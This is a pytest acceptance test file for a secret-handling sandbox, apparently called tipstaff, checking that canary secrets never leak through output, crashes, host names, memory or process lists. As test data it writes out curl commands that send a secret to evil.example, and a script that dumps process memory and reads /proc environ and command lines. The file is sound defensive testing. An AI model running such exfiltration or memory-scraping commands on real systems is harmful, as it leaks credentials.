"""Canaries: secrets that are planted, printed, crashed with and sent astray; then all that a run left is read."""

import contextlib
import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from secrets import token_hex

import pytest

from tests.acceptance.outing import TIPSTAFF, Outing, everything_in
from tests.acceptance.web import HOST, Web
from tipstaff.isolation import places
from tipstaff.secrets.forms import forms

# New ones each time: tests that run beside these must not be taken for a leak.
CANARY = f"canary-{token_hex(7)}"
SHARP = f'caNary"{token_hex(4)} +/=\\5e1&f0ü%c77'
INJECTED = f"ghp_{token_hex(18)}"
SECRETS = {"CANARY": CANARY, "SHARP": SHARP, "TOKEN": INJECTED}


@pytest.fixture(scope="module", autouse=True)
def supplied(outing: Outing, web: Web) -> None:
    """Have secrets in the store, and a web that knows one of them."""
    web.credential = f"Bearer {INJECTED}"
    for name, value in SECRETS.items():
        assert outing.run("secrets", "set", name, stdin=value.encode()).returncode == 0


@pytest.fixture(scope="module")
def policy(outing: Outing, web: Web) -> str:
    """A policy that gives two of them to the command and puts one into its requests."""
    token = {"name": "TOKEN", "way": "inject", "header": "Authorization", "hosts": [HOST]}
    return outing.policy(
        network={"hosts": [{"host": HOST, "ports": [web.https], "addresses": ["127.0.0.1"]}]},
        secrets=[token, {"name": "CANARY"}, {"name": "SHARP"}],
        files={"workspaces": ["/**"], "in_place": ["/**"], "readable": ["/**"]},
    )


def told(data: bytes) -> list[str]:
    """Name the secrets that bytes tell, in any spelling that is known."""
    return [name for name, value in SECRETS.items() if any(form in data for form in forms(value.encode()))]


def left_by(outing: Outing) -> dict[str, bytes]:
    """Read everything that a run may have left on the host: home, bundles, scratch, state."""
    state, scratch = Path(places.state_folder(outing.environ)), Path(places.scratch_folder())
    return everything_in(outing.folder, state, scratch)


def telling(outing: Outing) -> dict[str, list[str]]:
    """Name the files that tell a secret."""
    return {name: found for name, data in left_by(outing).items() if (found := told(data))}


# Prints each secret in a spelling of its own, a line each, on both streams and cut in two at every place by chance.
PRINT = """
import base64, json, os, sys, time, urllib.parse
def spellings(text):
    data = text.encode()
    yield from (data, base64.b64encode(data), base64.urlsafe_b64encode(data), base64.b64encode(b"a" + data + b"b"))
    yield from (base64.b64encode(b"ab" + data), data.hex().encode(), data.hex().upper().encode(), data[::-1])
    yield from (urllib.parse.quote(text).encode(), urllib.parse.quote_plus(text).encode(), json.dumps(text).encode())
    yield from ("".join(f"%{byte:02x}" for byte in data).encode(), json.dumps(text, ensure_ascii=False).encode())
    yield from ("".join(f"\\\\u{ord(letter):04x}" for letter in text).encode(), text.encode("utf-16-le"))
    yield repr(data).encode()
for name in sys.argv[1:]:
    for number, spelled in enumerate(spellings(os.environ[name])):
        for stream in (1, 2):
            middle = (number * 7 + stream) % len(spelled)
            os.write(stream, spelled[:middle])
            time.sleep(0.001)
            os.write(stream, spelled[middle:] + b"\\n")
"""


def test_what_is_printed_tells_nothing(outing, policy):
    """A command that prints its secrets in every spelling, on both streams and in pieces, has them taken out."""
    words = ["--policy", policy, "--secret", "CANARY", "--secret", "SHARP"]
    went = outing.go(*words, "--", "python3", "-c", PRINT, "CANARY", "SHARP")

    assert went.stdout.count(b"[REDACTED:CANARY]") >= 13
    assert went.stderr.count(b"[REDACTED:SHARP]") >= 13
    assert (told(went.stdout), told(went.stderr)) == ([], [])
    assert {("CANARY", "stdout"), ("CANARY", "stderr"), ("SHARP", "stdout"), ("SHARP", "stderr")} == set(went.leaks)
    assert telling(outing) == {}


CRASH = (
    'ulimit -c unlimited 2>/dev/null; cd /workspace; sh -c "kill -SEGV \\$\\$"; echo "$CANARY" > note; kill -ABRT $$'
)


def test_a_crash_leaves_no_dump(outing, policy, tmp_path):
    """A command that crashes with a secret in its variables leaves no image of its memory; what it wrote is its own."""
    (tmp_path / "work").mkdir()
    words = ["--policy", policy, "--secret", "CANARY", "--workspace", tmp_path / "work", "--in-place"]
    went = outing.go(*words, "--", "sh", "-c", CRASH)

    assert went.code == 128 + 6
    assert [path.name for path in (tmp_path / "work").iterdir()] == ["note"]
    assert (tmp_path / "work" / "note").read_text().strip() == CANARY
    assert telling(outing) == {}


ASTRAY = """
curl -s https://$CANARY.evil.example/
curl -s http://$CANARY/
curl -s http://evil.example/$CANARY
curl -s -H "Host: $CANARY" http://evil.example/
curl -s -X $(printf %s "$CANARY" | tr -dc a-f | tr a-f A-F) http://evil.example/
curl -s https://x$(printf %s "$CANARY" | od -An -tx1 -v | tr -d ' \\n').evil.example/
curl -s --path-as-is "$1/$CANARY/../x"
curl -s -H "Authorization: Bearer $CANARY" "$1/private"
"$CANARY"
cd "/$CANARY"
exec "/bin/$CANARY"
"""


def test_names_of_hosts_and_files_tell_nothing(outing, policy, web):
    """A secret in a blocked host, a path, a program's name or an error is taken out of events, sentences and output."""
    flags = ["--policy", policy, "--secret", "CANARY", "--allow-host", web.flag("inspect")]
    went = outing.go(*flags, "--", "sh", "-c", ASTRAY, "sh", web.url(""))
    told_json = outing.run("run", "--json", *flags, "--", "sh", "-c", ASTRAY, "sh", web.url(""))

    assert told(went.stdout + went.stderr + told_json.stdout + told_json.stderr) == []
    hosts = {tried["host"] for tried in went.attempts}
    assert {"[REDACTED:CANARY].evil.example", "[REDACTED:CANARY]", "evil.example", HOST} <= hosts
    assert ("CANARY", "events") in went.leaks
    assert telling(outing) == {}


MIXED = "CaNaRy5E1f0C77aB94"


def test_a_name_that_is_spelled_small_tells_nothing(outing, tmp_path):
    """A host is written down in small letters; a secret with large ones is taken out of it all the same."""
    home = {"TIPSTAFF_HOME": str(tmp_path / "home")}
    assert outing.run("secrets", "set", "MIXED", stdin=MIXED.encode(), **home).returncode == 0
    ended = outing.run("run", "--json", "--secret", "MIXED", "--", "sh", "-c", "curl -s http://$MIXED.example/", **home)

    left = b"".join(everything_in(tmp_path).values()) + ended.stdout + ended.stderr
    assert json.loads(ended.stdout)["receipt"]["networkAccessed"][0]["host"].endswith(".example")
    assert MIXED.lower().encode() not in left.lower()


LONG = "".join(f"Ab{number}c" for number in range(60))
CUT = """
import os, socket
def say(words):
    with socket.create_connection(("127.0.0.1", 3128), 20) as gate:
        gate.sendall(words.replace("$", os.environ["LONG"]).encode())
        gate.recv(999)
say("CONNECT $:443 HTTP/1.1\\r\\n\\r\\n")
say("CONNECT " + "x" * 100 + "$:443 HTTP/1.1\\r\\n\\r\\n")
say("GET http://evil.example/" + "x" * 100 + "$ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")
say("GET $://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")
say("GET http://box.example/" + "x" * 100 + "$ HTTP/1.1\\r\\nHost: box.example\\r\\n\\r\\n")
"""


def test_a_sentence_that_is_cut_tells_no_beginning(outing, tmp_path):
    """Where a name or a path is too long to be repeated, the part that is must not be the beginning of a secret."""
    home = {"TIPSTAFF_HOME": str(tmp_path / "home")}
    assert outing.run("secrets", "set", "LONG", stdin=LONG[:200].encode(), **home).returncode == 0
    grant = {"host": HOST, "ports": [80], "paths": ["/known"], "inspect": True, "addresses": ["127.0.0.1"]}
    policy = outing.policy(network={"hosts": [grant]}, secrets=[{"name": "LONG"}])
    flags = ["--policy", policy, "--secret", "LONG", "--allow-host", f"{HOST}:80,address=127.0.0.1"]
    ended = outing.run("run", "--json", *flags, "--", "python3", "-c", CUT, **home)

    told = json.loads(ended.stdout)
    assert told["exitCode"] == 0, told["stderr"]
    assert len(told["refusals"]) >= 4
    left = b"".join(everything_in(tmp_path).values()) + ended.stdout + ended.stderr
    assert LONG[:16].lower().encode() not in left.lower()


DUMP = """
import os, sys, urllib.error, urllib.request
asked = urllib.request.Request(sys.argv[1] + "/echo", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
print(urllib.request.urlopen(asked, timeout=30).status)
def regions():
    for line in open("/proc/self/maps"):
        place, rights, *_ = line.split()
        if rights.startswith("rw"):
            yield [int(end, 16) for end in place.split("-")]
with open("/proc/self/mem", "rb", 0) as memory, open("/workspace/dump", "wb") as dump:
    for start, end in list(regions()):
        memory.seek(start)
        try:
            dump.write(memory.read(end - start))
        except OSError:
            pass
    for number in filter(str.isdecimal, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                dump.write(open(f"/proc/{number}/{name}", "rb").read())
            except OSError:
                pass
"""


def test_an_injected_secret_is_nowhere_inside(outing, policy, web, tmp_path):
    """After a request that the server echoes, memory, variables and command lines inside hold the placeholder alone."""
    (tmp_path / "work").mkdir()
    (tmp_path / "work").chmod(0o777)
    words = ["--policy", policy, "--secret", "TOKEN", "--allow-host", web.flag(), "--workspace", tmp_path / "work"]
    script = f'echo $TOKEN; {"exec python3 -c"} "$@"'
    went = outing.go(*words, "--in-place", "--", "sh", "-c", script, "sh", DUMP, web.url(""))

    placeholder, status = went.text.split()
    dump = (tmp_path / "work" / "dump").read_bytes()
    assert status == "200", went.said
    assert web.asked[-1].headers["authorization"] == f"Bearer {INJECTED}"
    assert placeholder.encode() in dump
    assert told(dump + went.stdout + went.stderr) == []
    assert went.leaks == [("TOKEN", "egress")]
    assert telling(outing) == {}


def processes() -> Iterator[tuple[bool, bytes, bytes]]:
    """List the command lines and variables that can be read, and whether each process is in a sandbox."""
    own = Path("/proc/self/ns/pid").readlink()
    for entry in Path("/proc").iterdir():
        if entry.name.isdecimal():
            with contextlib.suppress(OSError):
                inside = (entry / "ns" / "pid").readlink() != own
                yield inside, (entry / "cmdline").read_bytes(), (entry / "environ").read_bytes()


@pytest.mark.parametrize("name", ["CANARY", "TOKEN"])
def test_no_process_of_the_host_shows_a_secret(outing, policy, web, name):
    """While a run lasts, no command line shows its secret, and no variables but those of the command that has it."""
    words = ["run", "--policy", policy, "--quiet", "--secret", name, "--allow-host", web.flag()]
    script = 'echo on; cat; exec curl -s -H "Authorization: Bearer $TOKEN" "$1"'
    with subprocess.Popen(
        [TIPSTAFF, *words, "--", "sh", "-c", script, "sh", web.url("/private")],
        env=outing.environ, cwd=outing.folder, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
    ) as run:  # fmt: skip
        assert run.stdout is not None
        assert run.stdout.readline() == b"on\n"
        found = list(processes())
        output, _ = run.communicate(timeout=60)

    assert [line for _, line, _ in found if told(line)] == []
    assert [line for inside, line, environ in found if not inside and told(environ)] == []
    holding = {name for inside, _, environ in found if inside for name in told(environ)}
    assert holding == ({"CANARY"} if name == "CANARY" else set())
    assert (output == b"welcome\n") is (name == "TOKEN")


def test_looking_back_tells_nothing(outing, policy, web):
    """Every command that shows runs shows none of their secrets, also when it is asked to show everything."""
    flags = ["--policy", policy, "--secret", "CANARY", "--secret", "TOKEN", "--allow-host", web.flag()]
    outing.go(
        *flags, "--", "sh", "-c", 'echo "$CANARY"; curl -s -H "Authorization: $TOKEN" "$1"', "sh", web.url("/echo")
    )
    commands = [["show", "last"], ["show", "last", "--json"], ["log", "last"], ["history"], ["history", "--json"]]
    commands += [["secrets", "list"], ["secrets", "list", "--check", "--json"], ["bundle", "last"]]
    shown = [outing.run(*command, TIPSTAFF_DEBUG="1") for command in commands]

    assert [one.returncode for one in shown] == [0] * len(shown)
    assert b"[REDACTED:CANARY]" in b"".join(one.stdout for one in shown)
    assert [told(one.stdout + one.stderr) for one in shown] == [[]] * len(shown)


def test_a_failure_tells_nothing(outing, policy, web):
    """A run that cannot be started although its secrets were read shows none of them, with tracebacks on neither."""
    flags = ["--policy", policy, "--secret", "CANARY", "--secret", "TOKEN", "--allow-host", web.flag()]
    failed = outing.run("run", *flags, "--", "true", SSL_CERT_FILE="/nowhere", TIPSTAFF_DEBUG="1")
    missing = outing.run("run", *flags, "--", "/nowhere/program", TIPSTAFF_DEBUG="1")

    assert (failed.returncode, missing.returncode) == (125, 127)
    assert told(failed.stdout + failed.stderr + missing.stdout + missing.stderr) == []
    assert telling(outing) == {}


def test_a_command_that_holds_a_value_is_not_given_it(outing, policy, tmp_path):
    """Who writes a value into the command itself has told it to the record: that is said, and nothing runs."""
    home = {"TIPSTAFF_HOME": str(tmp_path / "home")}
    outing.run("secrets", "set", "SHARP", stdin=SHARP.encode(), **home)
    ended = outing.run("run", "--policy", policy, "--secret", "SHARP", "--", "echo", SHARP, **home)

    assert ended.returncode == 126
    assert b"the command itself holds the value of SHARP" in ended.stderr
    assert told(ended.stdout + ended.stderr) == []


def test_what_is_there_is_found(outing):
    """The search of these tests finds a canary in a file, in whatever spelling."""
    (outing.folder / "planted").write_bytes(CANARY.encode().hex().encode())
    found = telling(outing)
    (outing.folder / "planted").unlink()

    assert found == {str(outing.folder / "planted"): ["CANARY"]}
